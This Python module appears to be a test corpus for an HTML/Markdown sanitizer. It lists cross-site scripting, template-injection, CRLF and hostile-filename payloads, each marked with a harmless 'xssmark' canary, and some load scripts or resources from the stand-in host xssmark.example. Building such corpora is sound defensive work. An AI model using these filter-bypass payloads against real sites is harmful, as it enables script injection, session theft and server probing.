"""Scripts that want to run on a page, by technique; each says so by ``xssmark`` if it does.

Made for this corpus. A payload that comes to life creates an element or attribute named after the
mark, sets ``window.xssmark``, opens a dialog, or asks `ELSEWHERE` for something.
"""

from __future__ import annotations

from dataclasses import dataclass

ELSEWHERE = "xssmark.example"
"""A host that only a payload asks."""
_RUN = "window.xssmark=1"
_URL = f"//{ELSEWHERE}/"


@dataclass(frozen=True, slots=True)
class Payload:
    """``id`` reads technique-number."""

    id: str
    technique: str
    text: str


_BY_TECHNIQUE: dict[str, tuple[str, ...]] = {
    "tags": (
        f"<script>{_RUN}</script>",
        f"<script xssmark>{_RUN}</script >",
        f"<sCrIpT xssmark>{_RUN}</ScRiPt>",
        f"<script src={_URL}a.js xssmark></script>",
        f"<script\n\txssmark\n>{_RUN}</script\t\n bar>",
        f"<script/xssmark>{_RUN}</script>",
        f"<<script xssmark>{_RUN}//<</script>",
        f"<scr<script xssmark>ipt>{_RUN}</scr</script>ipt>",
        f'<iframe xssmark src="{_URL}f"></iframe>',
        f"<iframe xssmark srcdoc='&lt;script&gt;parent.{_RUN[7:]}&lt;/script&gt;'></iframe>",
        f"<object xssmark data={_URL}o></object>",
        f"<embed xssmark src={_URL}e>",
        f"<base xssmark href={_URL}>",
        f"<link xssmark rel=stylesheet href={_URL}l.css>",
        f'<meta xssmark http-equiv="refresh" content="0;url={_URL}m">',
        f"<form xssmark action={_URL}><button xssmark>Continue</button></form>",
        "<xssmark contenteditable onfocus=alert(1) autofocus tabindex=1>",
        f"<portal xssmark src={_URL}p></portal>",
        f"<frameset xssmark onload={_RUN}><frame src={_URL}></frameset>",
        f"<template xssmark><script>{_RUN}</script></template>",
        f"<div xssmark><template shadowrootmode=open><script>{_RUN}</script></template></div>",
        f"<applet xssmark code={_URL}></applet>",
    ),
    "events": (
        f"<img xssmark src=x onerror={_RUN}>",
        f"<img xssmark src=x onerror='alert(1)'>",  # noqa: F541  # in line with its neighbors
        f"<img/xssmark/src=x/onerror={_RUN}>",
        f"<IMG xssmark SRC=x OnErRoR={_RUN}>",
        f"<body xssmark onload={_RUN}>",
        f"<video xssmark><source onerror={_RUN}></video>",
        f"<audio xssmark src=x onerror={_RUN}>",
        f"<details xssmark open ontoggle={_RUN}>",
        f"<input xssmark autofocus onfocus={_RUN}>",
        f"<select xssmark autofocus onfocus={_RUN}></select>",
        f"<marquee xssmark onstart={_RUN}>x</marquee>",
        f"<a xssmark href=x onmouseover={_RUN}>hover</a>",
        f"<div xssmark style=animation-name:x onanimationstart={_RUN}>",
        f"<p xssmark onpointerenter={_RUN} onclick={_RUN}>point</p>",
        f"<img xssmark src=x onerror\x0b={_RUN}>",
        f"<img xssmark src=x onerror\n=\n{_RUN}>",
        f"<img xssmark src=x one\x00rror={_RUN}>",
        f"<body xssmark onpageshow={_RUN} onhashchange={_RUN}>",
    ),
    "attribute breakout": (
        f'" xssmark onfocus="{_RUN}" autofocus x="',
        f"' xssmark onfocus='{_RUN}' autofocus x='",
        f'"><img xssmark src=x onerror={_RUN}>',
        f"'><img xssmark src=x onerror={_RUN}>",
        f"` xssmark onfocus={_RUN} autofocus x=`",
        f'"/><script xssmark>{_RUN}</script><x y="',
        f"--><script xssmark>{_RUN}</script><!--",
        f"]]><script xssmark>{_RUN}</script><![CDATA[",
        f"</title><script xssmark>{_RUN}</script>",
        f"</textarea><script xssmark>{_RUN}</script>",
        f"</style><script xssmark>{_RUN}</script>",
        f"</script><script xssmark>{_RUN}</script>",
        f"</noscript><img xssmark src=x onerror={_RUN}>",
        f"</option></select><img xssmark src=x onerror={_RUN}>",
        f"</summary></details><img xssmark src=x onerror={_RUN}>",
        f"x onmouseover={_RUN} xssmark=",
        f'\\" xssmark onfocus={_RUN} autofocus \\"',
        f"%22%3E%3Cimg%20xssmark%20src=x%20onerror={_RUN}%3E",
    ),
    "svg and mathml": (
        f"<svg xssmark onload={_RUN}>",
        f"<svg/xssmark/onload={_RUN}//",
        f"<svg xssmark><script>{_RUN}</script></svg>",
        f"<svg xssmark><script href={_URL}s.js /></svg>",
        f"<svg xssmark><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
        f"<svg xssmark><animate onbegin={_RUN} attributeName=x dur=1s>",
        f"<svg xssmark><set attributeName=onmouseover to={_RUN}>",
        f"<svg xssmark><use href={_URL}u.svg#x /></svg>",
        f"<svg xssmark><image href={_URL}i.png /></svg>",
        f"<svg xssmark><foreignObject><iframe src={_URL}></iframe></foreignObject></svg>",
        f"<math xssmark><mtext><img src=x onerror={_RUN}></mtext></math>",
        f"<math xssmark><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction>",
        f"<math xssmark href=javascript:{_RUN}>x</math>",
    ),
    "mutation": (
        f'<noscript><p title="</noscript><img xssmark src=x onerror={_RUN}>">',
        f'<svg></p><style><a id="</style><img xssmark src=x onerror={_RUN}>">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img xssmark src=x '
        f'onerror={_RUN}&gt;">',
        f"<form><math><mtext></form><form><mglyph><style></math><img xssmark src onerror={_RUN}>",
        f"<table><td><svg><desc><td></svg><img xssmark src=x onerror={_RUN}></table>",
        f"<a title='<b>' xssmark><svg><style><!--</style><a id='--><img src=x onerror={_RUN}>'>",
        f"<listing>&lt;img xssmark src=x onerror={_RUN}&gt;</listing>",
        f"<xmp><p title='</xmp><img xssmark src=x onerror={_RUN}>'></xmp>",
        f"<plaintext xssmark><img src=x onerror={_RUN}>",
        f"<select><iframe></select><img xssmark src=x onerror={_RUN}>",
        f"<!--><img xssmark src=x onerror={_RUN}>-->",
        f"<!--!><img xssmark src=x onerror={_RUN}>-->",
        f"<?xml-stylesheet ?><img xssmark src=x onerror={_RUN}>",
    ),
    "addresses": (
        f"[click](javascript:{_RUN})",
        f"[click](JaVaScRiPt:{_RUN})",
        f"[click](java\tscript:{_RUN})",
        f"[click](javascript&colon;{_RUN})",
        f"[click](&#106;avascript:{_RUN})",
        f"[click](vbscript:xssmark)",  # noqa: F541
        "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzbWFyaz0xPC9zY3JpcHQ+)",
        f"![x]({_URL}pixel.png)",
        f'![x](https:{_URL}pixel.png "title")',
        f"[x]: javascript:{_RUN}\n\n[x]",
        f"<javascript:{_RUN}>",
        f"javascript:{_RUN}//%0a{_RUN}",
        f"javascript://%0a{_RUN}",
        f"<a xssmark href=' javascript:{_RUN}'>x</a>",
        f"<a xssmark href='\x01javascript:{_RUN}'>x</a>",
        f'<a xssmark href="data:text/html,<script>{_RUN}</script>">x</a>',
        f"[![x]({_URL}in.png)](javascript:{_RUN})",
        f"https://user:pass@{ELSEWHERE}/",
    ),
    "styles": (
        f"<style xssmark>@import '{_URL}s.css';</style>",
        f"<style xssmark>* {{ background: url({_URL}b.png) }}</style>",
        f"<div xssmark style='background:url({_URL}b.png)'>x</div>",
        f"<div xssmark style='width: expression({_RUN})'>x</div>",
        "<div xssmark style='position:fixed;inset:0;z-index:9999'>cover</div>",
        f"<link xssmark rel=preload as=image href={_URL}p.png>",
    ),
    "templates": (
        "{{7*7}}xssmark",
        "{{ config.items() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        "${7*7} #{7*7} <%= 7*7 %> @(7*7)",
        "{{''.constructor.constructor('window.xssmark=1')()}}",
        "{{request.application.__globals__}}",
    ),
    "htmx": (
        f"<div xssmark hx-get={_URL} hx-trigger=load></div>",
        f"<div xssmark hx-on::load='{_RUN}' hx-on:click='{_RUN}'></div>",
        f"<div xssmark data-hx-post='/history/delete' data-hx-trigger=load></div>",  # noqa: F541
        f'" xssmark hx-get="{_URL}" hx-trigger="load" x="',
        f"<hx-partial xssmark hx-target=body><img src=x onerror={_RUN}></hx-partial>",
    ),
    "spelling": (
        f"＜script xssmark＞{_RUN}＜/script＞",
        "\u202e>tpircs/<1=kramssx.wodniw>tpircs<\u202c",
        f"<\u200bscript xssmark>{_RUN}</script>",
        f"+ADw-script xssmark+AD4-{_RUN}+ADw-/script+AD4-",
        f"\\x3cscript xssmark\\x3e{_RUN}\\x3c/script\\x3e",
        f"\\u003cscript xssmark\\u003e{_RUN}\\u003c/script\\u003e",
        f"&lt;script xssmark&gt;{_RUN}&lt;/script&gt;",
        f"&amp;lt;script xssmark&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
        f"%3Cscript%20xssmark%3E{_RUN}%3C/script%3E",
        f"<script xssmark>{_RUN}".replace("s", "ſ"),
        f"ⓢⓒⓡⓘⓟⓣ <img xssmark src=x onerror={_RUN}>\ufeff",
        f"\u2028<img xssmark src=x onerror={_RUN}>\u2029",
    ),
    "streams": (
        f"x\n\nevent: message\ndata: <img xssmark src=x onerror={_RUN}>\n\n",
        f"x\r\n\r\n<img xssmark src=x onerror={_RUN}>",
        f"x\r\nSet-Cookie: xssmark=1\r\nX-Xssmark: 1",  # noqa: F541
    ),
}

PAYLOADS = tuple(
    Payload(f"{technique}-{number}", technique, text)
    for technique, texts in _BY_TECHNIQUE.items()
    for number, text in enumerate(texts, 1)
)
FILE_NAMES = (
    "<img xssmark src=x onerror=window.xssmark=1>.txt",
    '" xssmark onfocus="window.xssmark=1" autofocus x=".txt',
    "' xssmark onfocus='window.xssmark=1' x='.md",
    "<svg xssmark onload=window.xssmark=1>.csv",
    "invoice\u202etxt.exe.md",
    "{{7*7}} xssmark.txt",
    "javascript:window.xssmark=1.txt",
    "&lt;script xssmark&gt;.txt",
    "=HYPERLINK('xssmark').csv",
)
COLLECTIONS = (
    "<img xssmark src=x onerror=window.xssmark=1>",
    '" xssmark onfocus="window.xssmark=1" autofocus x="',
    "</option></select><img xssmark src=x onerror=window.xssmark=1>",
)
